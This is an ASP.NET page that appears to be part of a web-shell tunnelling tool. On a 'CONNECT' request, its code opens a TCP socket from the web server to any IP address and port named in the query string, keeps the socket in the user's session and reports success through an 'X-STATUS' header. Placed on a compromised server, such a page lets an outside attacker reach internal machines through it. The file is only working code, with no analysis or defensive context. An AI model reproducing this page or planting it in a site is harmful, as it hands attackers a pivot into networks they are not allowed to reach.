<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    String cmd = Request.QueryString.Get("cmd").ToUpper();
    if (cmd == "CONNECT") {
        String target = Request.QueryString.Get("target").ToUpper();
        int port = int.Parse(Request.QueryString.Get("port"));
        IPAddress ip = IPAddress.Parse(target);
        System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, port);
        Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sender.Connect(remoteEP);
        sender.Blocking = false;
        Session.Add("socket", sender);
        Response.AddHeader("X-STATUS", "OK");
    }
%>
